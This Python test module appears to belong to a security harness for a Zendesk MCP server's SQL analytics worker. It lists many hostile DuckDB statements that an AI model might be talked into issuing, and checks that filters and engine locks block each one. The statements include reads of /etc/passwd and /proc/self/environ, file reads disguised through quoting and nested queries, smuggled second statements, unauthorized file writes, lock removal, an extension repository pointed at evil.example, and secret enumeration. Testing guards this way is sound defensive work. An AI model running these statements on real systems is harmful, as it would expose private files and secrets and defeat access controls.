"""SQL that a model is talked into, against the engine that would run it.

No process is started here: that there is one, and what it gives up, is shown by ``queries`` and
``tests/analytics``. Each statement is stopped twice, by what a statement may be and by
the engine's locks; ``LOCKED`` names those of which the second alone is shown.
"""

from __future__ import annotations

import itertools
import time
from collections.abc import Callable
from contextlib import ExitStack
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from unittest import mock

import duckdb

from analytics.engines import CANARY, OLD, engine_of, ground, job, shared_engine
from attacks.attack import Attacks, Ground, all_of, put_in_place
from mcp_server_zendesk.analytics.querying import worker
from mcp_server_zendesk.analytics.querying.job import Job
from mcp_server_zendesk.analytics.querying.permitted import NotPermitted

ATTACKS = Attacks("SQL over the store")

WORKER = "mcp_server_zendesk.analytics.querying.worker"
SLEPT = 0.15
_numbers = itertools.count()


@dataclass(frozen=True, slots=True)
class Came:
    """What came of a statement: its rows as text (None where it was not run), and the time."""

    said: str | None
    seconds: float
    out: Path


Harm = Callable[[Came], bool]


def _told(canary: str) -> Harm:
    return lambda came: canary in (came.said or "")


def _ran(came: Came) -> bool:
    return came.said is not None


def _said_something(came: Came) -> bool:
    return bool(came.said and came.said.strip("[]()"))


def _wrote(came: Came) -> bool:
    return came.out.exists()


def _slept(came: Came) -> bool:
    return came.seconds >= SLEPT


def as_it_comes(engine: duckdb.DuckDBPyConnection, asked: Job) -> dict[str, Any]:
    """What stands in for looking at a statement: it is run."""
    variable = engine.sql(f"SELECT '{CANARY}' AS a")
    rows = engine.execute(asked.statement).fetchmany(100)
    del variable
    return {"rows": rows}


def came_of(sql: str, engine: duckdb.DuckDBPyConnection | None = None) -> Came:
    """A statement, run by the worker's own functions as they stand."""
    local = ground()
    folder = local.folder.parent
    out = folder / f"written-{next(_numbers)}"
    text = sql.format(folder=folder, out=out, canary=CANARY)
    began, said = time.perf_counter(), None
    with ExitStack() as stack:
        if engine is None:
            engine = shared_engine() if _as_it_is() else stack.enter_context(engine_of(local))
        began = time.perf_counter()
        try:
            answer = worker.answered(engine, job(local, text))
            said = str(answer.get("rows", answer))
        except duckdb.ConnectionException:
            raise  # the engine is not there: nothing was shown
        except (NotPermitted, duckdb.Error):
            pass
    return Came(said, time.perf_counter() - began, out)


_ANSWERED = worker.answered


def _as_it_is() -> bool:
    return worker.answered is _ANSWERED


LOOKED_AT = put_in_place(f"{WORKER}:answered", as_it_comes)
LOCKS = all_of(
    put_in_place(f"{WORKER}:_LOCKED", ("SET TimeZone = 'UTC'",)),
    put_in_place(f"{WORKER}:_OPENED", {"async_threads": 0, "autoload_known_extensions": "false",
                                       "autoinstall_known_extensions": "false"}),
)  # fmt: skip
UNGUARDED = all_of(LOOKED_AT, LOCKS)

_FILE = "reads a file of this machine"
_TELLS = "has the engine tell of itself and of this machine"
_HIDDEN = "reads what the views leave out"
_CHANGES = "changes something"

# Name, what it tries, the statement, how harm is noticed, whether the locks alone would stop it.
_TRIES: tuple[tuple[str, str, str, Harm, bool], ...] = (
    ("file as text", _FILE, "SELECT * FROM read_text('{folder}/canary.txt')", _told(CANARY), True),
    ("file as blob", _FILE, "FROM read_blob('{folder}/canary.txt')", _told(CANARY), True),
    ("file as CSV", _FILE, "FROM read_csv('{folder}/canary.csv', header=false)",
     _told(CANARY), True),
    ("file as JSON", _FILE, "FROM read_json('{folder}/canary.json')", _told(CANARY), True),
    ("file as Parquet", _FILE, "FROM read_parquet('{folder}/canary.parquet')",
     _told(CANARY), True),
    ("file sniffed", _FILE, "FROM sniff_csv('{folder}/canary.csv')", _said_something, True),
    ("file by its name", _FILE, "FROM '{folder}/canary.parquet'", _told(CANARY), True),
    ("file by a quoted name", _FILE, 'FROM "{folder}/canary.csv"', _told(CANARY), True),
    ("file by an address", _FILE, "FROM read_text('file://{folder}/canary.txt')",
     _told(CANARY), True),
    ("file described", _FILE, "DESCRIBE FROM '{folder}/canary.parquet'", _ran, True),
    ("file summarized", _FILE, "SUMMARIZE FROM '{folder}/canary.parquet'", _told(CANARY), True),
    ("Parquet's own words", _FILE, "FROM parquet_schema('{folder}/canary.parquet')", _ran, True),
    ("names of files", _FILE, "FROM glob('{folder}/*')", _told("canary."), True),
    ("the process's environment", _FILE, "FROM read_blob('/proc/self/environ')",
     _said_something, True),
    ("the process's command", _FILE, "FROM read_text('/proc/self/cmdline')",
     _said_something, True),
    ("accounts of this machine", _FILE, "FROM read_text('/etc/passwd')", _told("root"), True),
    ("file in a subquery", _FILE,
     "SELECT id FROM tickets WHERE EXISTS (FROM read_text('{folder}/canary.txt'))", _ran, True),
    ("file in a scalar", _FILE,
     "SELECT (SELECT content FROM read_text('{folder}/canary.txt')) FROM tickets",
     _told(CANARY), True),
    ("file in a common table", _FILE,
     "WITH a AS (FROM read_text('{folder}/canary.txt')) FROM a", _told(CANARY), True),
    ("file in a union", _FILE,
     "SELECT subject FROM tickets UNION SELECT content FROM read_text('{folder}/canary.txt')",
     _told(CANARY), True),
    ("file in a join", _FILE,
     "FROM tickets t, LATERAL (FROM read_text('{folder}/canary.txt')) x", _told(CANARY), True),
    ("file behind quotes", _FILE, "FROM \"read_text\"('{folder}/canary.txt')",
     _told(CANARY), True),
    ("file behind a schema", _FILE, "FROM system.main.read_text('{folder}/canary.txt')",
     _told(CANARY), True),
    ("file behind capitals and comments", _FILE,
     "FROM /* tickets */ ReAd_TeXt /*(*/ ('{folder}/canary.txt')", _told(CANARY), True),
    ("file behind a text that is run", _FILE,
     "FROM query('FROM read_text(''{folder}/canary.txt'')')", _told(CANARY), True),
    ("file behind a table's name", _FILE, "FROM query_table('{folder}/canary.parquet')",
     _told(CANARY), True),
    ("file behind a serialized query", _FILE,
     ("FROM json_execute_serialized_sql(json_serialize_sql("
     "'FROM read_text(''{folder}/canary.txt'')'))"), _told(CANARY), True),
    ("another database", _FILE, "ATTACH '{folder}/canary.duckdb' AS other", _ran, True),
    ("another database as a table", _FILE, "FROM read_duckdb('{folder}/canary.duckdb')",
     _told(CANARY), True),
    ("a file is filled", _CHANGES, "COPY tickets TO '{out}'", _wrote, True),
    ("a file is filled by a query", _CHANGES, "COPY (SELECT 1) TO '{out}' (FORMAT csv)",
     _wrote, True),
    ("all is exported", _CHANGES, "EXPORT DATABASE '{out}'", _wrote, True),
    ("a database is made", _CHANGES, "ATTACH '{out}' AS mine", _wrote, True),
    ("second statement", _CHANGES, "SELECT 1; COPY (SELECT 1) TO '{out}'", _wrote, True),
    ("second statement behind a comment", _CHANGES,
     "SELECT 1 /* ; */ ; -- that is all\nCOPY (SELECT 1) TO '{out}'", _wrote, True),
    ("the log is written", _CHANGES, "CALL enable_logging(storage_path = '{out}')", _ran, True),
    ("locks are taken off", _CHANGES, "RESET lock_configuration", _ran, True),
    ("extensions come from elsewhere", _CHANGES,
     "SET custom_extension_repository = 'http://evil.example'", _ran, True),
    ("more memory", _CHANGES, "PRAGMA memory_limit = '40GB'", _ran, True),
    ("a view is put in place of another", _CHANGES,
     "CREATE OR REPLACE TEMP VIEW tickets AS SELECT 1 AS id", _ran, False),
    ("a view is dropped", _CHANGES, "DROP VIEW tickets", _ran, False),
    ("a change in a common table", _CHANGES,
     "CREATE TEMP TABLE x (i INT); WITH a AS (INSERT INTO x VALUES (1) RETURNING i) FROM a",
     _ran, False),
    ("settings", _TELLS, "FROM duckdb_settings()", _ran, False),
    ("one setting", _TELLS, "SELECT current_setting('secret_directory')", _ran, False),
    ("one setting by SHOW", _TELLS, "SHOW memory_limit", _ran, False),
    ("where the store lies", _TELLS, "SELECT path FROM duckdb_databases()",
     _told("tickets.duckdb"), False),
    ("where the store lies, by a pragma", _TELLS, "PRAGMA database_list",
     _told("tickets.duckdb"), False),
    ("version", _TELLS, "SELECT version()", _ran, False),
    ("platform", _TELLS, "CALL pragma_platform()", _ran, False),
    ("extensions", _TELLS, "FROM duckdb_extensions()", _ran, False),
    ("secrets", _TELLS, "FROM duckdb_secrets()", _ran, False),
    ("the plan", _TELLS, "EXPLAIN ANALYZE SELECT * FROM tickets", _ran, False),
    ("the views' statements", _TELLS, "SELECT sql FROM duckdb_views()", _told("kept"), False),
    ("the catalogue", _TELLS, "FROM information_schema.tables", _told("kept"), False),
    ("the other catalogue", _TELLS, "FROM pg_catalog.pg_tables", _told("kept"), False),
    ("the catalogue by a trick of names", _TELLS,
     "WITH a AS (FROM sqlite_master), sqlite_master AS (SELECT 1) FROM a", _told("kept"), False),
    ("the catalogue from a neighbour's names", _TELLS,
     "SELECT * FROM (WITH sqlite_master AS (SELECT 1) FROM sqlite_master) a, sqlite_master b",
     _told("kept"), False),
    ("the catalogue by its own name", _TELLS,
     "WITH sqlite_master AS (FROM sqlite_master) FROM sqlite_master", _told("kept"), False),
    ("the catalogue by a recursion", _TELLS,
     ("WITH RECURSIVE sqlite_master AS (SELECT name FROM sqlite_master UNION ALL "
     "SELECT name FROM sqlite_master WHERE false) FROM sqlite_master"), _told("tickets"), False),
    ("all tables", _TELLS, "SHOW ALL TABLES", _told("streams"), False),
    ("all databases", _TELLS, "SHOW DATABASES", _told("store"), False),
    ("tickets that are kept no longer", _HIDDEN, "SELECT subject FROM store.kept.tickets",
     _told(OLD), False),
    ("a table described", _HIDDEN, "DESCRIBE store.kept.tickets", _told("custom_status_id"), False),
    ("the cursor", _HIDDEN, "SELECT cursor FROM store.kept.streams", _told("cursor"), False),
    ("another database is used", _CHANGES, "USE store.kept", _ran, False),
    ("waiting", "holds a place for as long as it likes", "SELECT sleep_ms(200)", _slept, False),
    ("waiting by another name", "holds a place for as long as it likes",
     "SELECT pg_sleep(0.2) FROM tickets", _slept, False),
    ("a line in the log", _CHANGES, "SELECT write_log('forged')", _ran, False),
    ("a macro", _CHANGES, "CREATE TEMP MACRO now() AS 1", _ran, False),
    ("an object of Python's", "reads a variable of the program", "FROM variable",
     _told(CANARY), True),
)  # fmt: skip

LOCKED = tuple((name, sql, harm) for name, _, sql, harm, locked in _TRIES if locked)


def _registered(name: str, tries: str, sql: str, harm: Harm) -> None:
    @ATTACKS.add(
        f"SQL: {name}",
        who="model",
        tries=tries,
        defence="what a statement may be, and the engine's locks",
        without=UNGUARDED,
    )
    async def _(_: Ground) -> bool:
        return harm(came_of(sql))


for _name, _what, _sql, _harm, _ in _TRIES:
    _registered(_name, _what, _sql, _harm)


def stopped_by_locks(engine: duckdb.DuckDBPyConnection, sql: str, harm: Harm) -> bool:
    """Whether a statement that nobody looks at does no harm before a locked engine."""
    with mock.patch.object(worker, "answered", as_it_comes):
        return not harm(came_of(sql, engine))
